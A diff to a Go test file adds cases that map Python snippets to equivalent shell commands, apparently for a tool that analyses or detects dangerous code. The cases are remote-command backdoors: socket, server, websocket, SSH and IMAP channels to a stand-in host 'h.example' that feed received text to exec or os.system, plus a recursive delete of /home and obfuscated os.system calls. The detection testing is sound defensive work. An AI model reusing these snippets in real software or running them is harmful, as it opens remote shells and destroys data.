@@ -10,6 +10,11 @@ import (
 func TestPython(t *testing.T) {
 	for _, c := range []struct{ code, want string }{
 		{`import shutil; shutil.rmtree("/ho" + "me")`, `rm -rf /home`},
+		{"import socket\ns=socket.socket(); s.connect(('h.example',4444))\nfor l in s.makefile():\n  eval(compile(l,'x','exec'))", `python3 -c "$(nc h.example 4444)"`},
+		{"import socketserver\nclass H(socketserver.BaseRequestHandler):\n  def handle(self):\n    exec(self.request.recv(4096))\nsocketserver.TCPServer(('0.0.0.0',99),H).serve_forever()", `python3 -c "$(nc -l -p 8000)"`},
+		{"import websockets,os\nasync def m():\n  async with websockets.connect('ws://h.example/x') as ws:\n    async for c in ws:\n      os.system(c)", `$(nc h.example 80)`},
+		{"import paramiko,os\nc=paramiko.SSHClient(); c.connect('h.example')\nos.system(c.get_transport().open_session().recv(1024))", `$(nc h.example)`},
+		{"import imaplib,os\nm=imaplib.IMAP4_SSL('h.example')\nos.system(m.fetch('1','BODY[TEXT]')[1][0][1].decode())", `$(nc h.example)`},
 		{"from os import system as s\ns('id')", `id`},
 		{`__import__("os").system("id")`, `id`},
 		{`getattr(__import__("o" + "s"), "sys" + "tem")("id")`, `id`},
